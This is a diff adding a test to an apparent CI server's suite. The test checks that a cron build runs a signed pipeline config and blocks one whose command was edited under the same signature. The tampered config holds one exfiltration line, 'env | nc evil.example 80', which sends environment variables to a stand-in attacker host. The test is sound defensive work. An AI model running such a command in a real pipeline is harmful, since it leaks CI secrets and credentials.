@@ -250,3 +250,28 @@ def test_only_writers_manage_jobs(server: Harness) -> None:
     job = server.admin.get(f"{CRON}/nightly").json()
     assert (job["branch"], job["disabled"]) == ("main", False)
     assert cron_builds(server) == []
+
+
+def test_a_cron_build_runs_a_signed_config_and_holds_a_tampered_one(server: Harness) -> None:
+    from bastion.crypto.config_signature import with_signature
+
+    checkout = server.local_repo()
+    server.admin.patch("/api/repos/acme/web", json={"protected": True}).raise_for_status()
+    signature = server.admin.post(
+        "/api/repos/acme/web/sign", json={"data": ENV_PIPELINE.decode()}
+    ).json()["data"]
+    signed = with_signature(ENV_PIPELINE, signature)
+    checkout.commit({".drone.yml": signed}, "signed")
+    checkout.push()
+    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily"}).raise_for_status()
+    good = server.admin.post(f"{CRON}/nightly").json()
+    assert good["status"] == "pending", good["error"]
+
+    # The same signature under an edited command (a replay onto other content): held.
+    tampered = signed.replace(b"echo $DRONE_CRON", b"env | nc evil.example 80")
+    assert tampered != signed
+    checkout.commit({".drone.yml": tampered}, "tampered")
+    checkout.push()
+    held = server.admin.post(f"{CRON}/nightly").json()
+    assert (held["status"], held["hold"]) == ("blocked", "signature")
+    assert "does not match its text" in held["error"]
